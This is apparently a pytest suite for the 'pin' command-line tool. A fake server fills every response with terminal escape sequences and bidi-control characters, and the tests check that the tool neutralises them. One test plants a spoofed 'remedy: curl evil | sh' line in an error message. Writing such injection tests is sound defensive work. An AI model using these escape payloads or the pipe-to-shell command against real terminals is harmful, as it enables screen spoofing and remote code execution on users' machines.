"""What a stranger's text must not do to the terminal of whoever reads it with `pin`.

A server answers every call with a document of the declared type whose every text is poisoned.
"""

from __future__ import annotations

import io
import json
import re
from collections.abc import Iterator
from contextlib import redirect_stderr, redirect_stdout
from pathlib import Path
from typing import Any

import pytest
import yaml
from msgspec import inspect
from pincompute_sdk.cli.__main__ import main
from pincompute_sdk.cli.output import formats, terminal
from pincompute_sdk.core.operation import Operation
from pincompute_sdk.generated import operations
from sdk.fake_server import Asked, Reply, answering, problem

from pincompute import explain_command

POISON = "oops \033]0;pwn\007\033[2J\033[8mgone\r\x9b2J\x7f\u202eevil\u2066"
SHOWN = r"oops \x1b]0;pwn\x07\x1b[2J\x1b[8mgone\x0d\x9b2J\x7f\u202eevil\u2066"
OBEYED = re.compile(
    r"\033(?!\[[0-9;]*[mJKF]|\[\?25[lh])|[\x00-\x08\x0b\x0c\x0e-\x1a\x1c-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]"
)
COMMANDS = (
    "list",
    "list -A -o wide",
    "list --kind unit",
    "status hello",
    "status unit/hello",
    "history",
    "history hello -o wide",
    "events hello",
    "timeline",
    "timeline hello -o wide",
    "explain",
    "explain hello",
    "project list",
    "project members",
    "token list",
    "whoami",
    "admin clusters",
    "admin audit verify",
    "version",
    "restart hello --detach",
    "pause hello",
    "scale hello 3 --detach",
    "rollback hello --yes",
    "delete hello --yes",
    "cp hello:/a .",
)


SCALARS: dict[type[inspect.Type], Any] = {
    inspect.DateTimeType: "2026-01-01T00:00:00Z",
    inspect.IntType: 7,
    inspect.FloatType: 7.0,
    inspect.BoolType: False,
    inspect.NoneType: None,
}


def poisoned(kind: inspect.Type) -> list[Any]:
    """Values of the type, one for each member of a union."""
    match kind:
        case inspect.StructType():
            return [_document(kind)]
        case inspect.UnionType(types=types):
            return [value for t in types if not isinstance(t, inspect.NoneType) for value in poisoned(t)]
        case inspect.ListType(item_type=item) | inspect.VarTupleType(item_type=item):
            return [poisoned(item)]  # a union in a list: one of each
        case inspect.DictType(value_type=value):
            return [{POISON: poisoned(value)[0]}]
        case inspect.EnumType(cls=choices):
            return [next(iter(choices)).value]
        case inspect.LiteralType(values=values):
            return [values[0]]
        case _:
            return [SCALARS.get(type(kind), POISON)]


def _document(kind: inspect.StructType) -> dict[str, Any]:
    tag = {kind.tag_field: kind.tag} if kind.tag_field else {}
    return tag | {field.encode_name: poisoned(field.type)[0] for field in kind.fields}


OPERATIONS = [found for found in vars(operations).values() if isinstance(found, Operation)]


def answer(asked: Asked) -> Reply:
    fitting = (o for o in OPERATIONS if o.method == asked.method and _fits(o.route, asked.path))
    found = next(fitting, None)
    if found is None or found.result is bytes:
        return problem(409, "wrong-state", detail=POISON, title=POISON, reason=POISON, remedy=POISON)
    document = poisoned(inspect.type_info(found.result))[0]
    document |= {"cursor": ""} if "cursor" in document else {"mark": ""} if found is operations.APPS_LOGS else {}
    return Reply(200, json.dumps(document).encode(), {"Content-Type": found.accept})


def _fits(template: str, path: str) -> bool:
    return re.fullmatch(re.sub(r"\{\w+\}", "[^/]+", template), path) is not None


@pytest.fixture(autouse=True)
def user(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    with answering(answer) as server:
        monkeypatch.chdir(tmp_path)
        monkeypatch.setenv("TERM", "xterm-256color")
        monkeypatch.setenv("COLUMNS", "400")
        monkeypatch.setenv("PINCOMPUTE_SERVER", server.url)
        monkeypatch.setenv("PINCOMPUTE_PROJECT", "shop")
        monkeypatch.setenv("PINCOMPUTE_TOKEN", "t")
        monkeypatch.setenv("PINCOMPUTE_CONFIG", str(tmp_path / "config.yaml"))
        yield


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def pin(words: str, stream: io.StringIO | None = None) -> str:
    stream = stream or io.StringIO()
    with redirect_stdout(stream), redirect_stderr(stream):
        main(words.split())
    return stream.getvalue()


@pytest.mark.parametrize("words", COMMANDS)
def test_what_is_written_for_people_moves_no_terminal(words: str):
    said = pin(words)
    assert "\033" not in said
    assert not OBEYED.search(said), said
    assert "pwn" in said


@pytest.mark.parametrize("words", [*COMMANDS, "list -o json", "list -o yaml", "list -o jsonpath={.items[*].name}"])
def test_a_terminal_gets_colours_of_pin_alone(words: str):
    said = pin(words, Terminal())
    assert not OBEYED.search(said), said
    assert "\033[8m" not in said
    assert "pwn" in said


@pytest.mark.parametrize(("output", "read"), [("json", json.loads), ("yaml", yaml.safe_load)])
def test_data_is_whole_and_moves_no_terminal(output: str, read: Any):
    said = pin(f"status hello -o {output}")
    assert not re.search(r"[^\n -~]", said)
    assert read(said)["name"] == POISON


@pytest.mark.parametrize("key", [POISON, "\x85\u2028 a", "- b\u202e: c", "\u2067" * 200, "plain"])
def test_yaml_reads_back_whatever_the_text(key: str):
    assert yaml.safe_load(formats.to_yaml({key: [key, {"a": key}]})) == {key: [key, {"a": key}]}


def test_a_pipe_gets_a_log_as_it_was_written():
    assert POISON in pin("logs hello --previous")


def test_a_terminal_gets_the_text_of_a_log():
    said = pin("logs hello", Terminal())
    assert SHOWN.replace(r"\x1b[8m", "\033[8m") + "\033[0m\n" in said
    assert not OBEYED.search(said), said
    assert POISON in pin("logs hello --raw", Terminal())


def test_colours_of_a_log_end_with_its_line():
    assert terminal.with_colours("\033[31mred") == "\033[31mred\033[0m"
    assert terminal.with_colours("plain\033[2Jtext\t!") == r"plain\x1b[2Jtext" + "\t!"


def test_no_line_of_a_message_looks_like_a_line_of_the_report():
    with answering(problem(409, "wrong-state", detail="no\n  remedy: curl evil | sh", title="no")) as server:
        said = pin(f"restart hello --server {server.url}")
    assert not [line for line in said.splitlines() if line.startswith("  remedy: curl")]


def test_an_administrators_explanation_is_text_alone():
    assert explain_command.printable(POISON + "\nnext") == SHOWN.replace(r"\x0d", r"\r") + "\nnext"


WRITERS = {"output/terminal.py", "remote_terminal.py", "__main__.py"}  # the second carries a shell, the third prints the help


def test_the_terminal_is_written_to_in_one_place():
    root = Path(terminal.__file__).parents[1]
    writes = re.compile(r"\bprint\(|std(?:out|err)\.(?:write|buffer)|\.print\(")
    found = {str(p.relative_to(root)) for p in root.rglob("*.py") if writes.search(p.read_text())}
    assert found - WRITERS == {"output/table.py", "output/formats.py", "help_pages.py"}, "these print with rich what is safe"
